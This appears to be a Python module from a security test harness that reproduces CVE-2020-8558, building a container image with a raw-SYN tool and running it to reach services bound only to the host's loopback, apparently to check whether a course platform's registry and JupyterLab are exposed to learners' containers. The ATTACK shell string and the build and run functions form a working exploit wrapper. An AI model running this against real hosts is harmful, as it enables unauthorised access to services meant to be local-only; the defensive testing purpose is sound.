"""The CVE-2020-8558 attack: a container reaches a service the host bound to 127.0.0.1 only.

With route_localnet=1 on the bridge (which published ports on 127.0.0.1 need when DNAT, not a
userland proxy, serves them) the host accepts packets for 127.0.0.0/8 arriving on the bridge.
A container holds CAP_NET_RAW by default, so it can hand-craft them: lo_syn.c sends a SYN for
127.0.0.1:PORT at layer 2 to the gateway's MAC address, completes the handshake and sends a line.
The course registry and JupyterLab listen on the host's loopback: this is how a learner's
container would reach them.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

from . import Status, must

SOURCE = Path(__file__).with_name("lo_syn.c")
DOCKERFILE = "FROM busybox\nCOPY lo-syn /usr/local/bin/lo-syn\n"
# ping fills the ARP cache with the gateway's MAC address, which lo-syn reads
ATTACK = "ping -c 1 -W 1 $(ip route | awk '/^default/ {print $3}') >/dev/null; exec lo-syn {port}"


def build_image(status: Status, tag: str, workdir: Path) -> str:
    """An image holding lo-syn, built static with the host's cc (the attacker's own tool)."""
    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        raise RuntimeError("no C compiler (cc) to build lo-syn")
    ctx = workdir / "lo-syn-context"
    ctx.mkdir(parents=True, exist_ok=True)
    subprocess.run([cc, "-static", "-O1", "-o", str(ctx / "lo-syn"), str(SOURCE)], check=True, capture_output=True)
    (ctx / "Dockerfile").write_text(DOCKERFILE)
    must(status, "build", "-q", "-t", tag, str(ctx))
    return tag


def attack(status: Status, image: str, port: int) -> tuple[int, str]:
    """Run lo-syn in a fresh container against the host's 127.0.0.1:port: (exit code, what it printed).
    0: it connected (or was answered with a RST), 1: no answer."""
    return status("run", "--rm", image, "sh", "-c", ATTACK.replace("{port}", str(port)))
